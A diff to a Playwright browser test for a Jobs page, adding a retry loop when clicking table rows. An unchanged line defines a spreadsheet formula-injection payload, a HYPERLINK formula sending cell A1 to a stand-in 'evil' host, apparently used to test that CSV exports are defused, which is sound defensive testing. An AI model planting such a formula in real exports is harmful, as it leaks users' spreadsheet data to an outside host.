@@ -1,5 +1,6 @@
 """The Jobs page in a real browser, before a whole local instance: what is asked for there really happens."""
 
+import contextlib
 import csv
 import io
 import json
@@ -9,6 +10,7 @@ from pathlib import Path
 
 import pytest
 from playwright.sync_api import Download, Locator, Page, ViewportSize, expect
+from playwright.sync_api import TimeoutError as PlaywrightTimeout
 
 from greenscale_jobs import JobClient, JobState
 from greenscale_testing.browser import DESKTOP, PHONE, InstanceWithPage, Visit
@@ -16,6 +18,8 @@ from greenscale_testing.browser import DESKTOP, PHONE, InstanceWithPage, Visit
 Open = Callable[..., Visit]
 
 FORMULA = '=HYPERLINK("http://evil/?"&A1)'
+CLICKS = 3
+
 LOOKS = [
     pytest.param("light", DESKTOP, id="light"),
     pytest.param("dark", DESKTOP, id="dark"),
@@ -40,8 +44,13 @@ def cell(page: Page, text: str) -> Locator:
 
 
 def open_row(page: Page, number: int) -> None:
-    """Click into the prompt of a row, counted from 0."""
-    page.get_by_test_id("stDataFrame").click(position={"x": 240, "y": 52 + 35 * number})
+    """Click into the prompt of a row, counted from 0; again where the table was drawn anew in that moment."""
+    for _ in range(CLICKS):
+        page.get_by_test_id("stDataFrame").click(position={"x": 240, "y": 52 + 35 * number})
+        with contextlib.suppress(PlaywrightTimeout):
+            page.wait_for_url("**/jobs?*job=*", timeout=5000)
+            return
+    raise AssertionError(f"row {number} does not open")
 
 
 def done(client: JobClient, *prompts: str) -> list[str]:
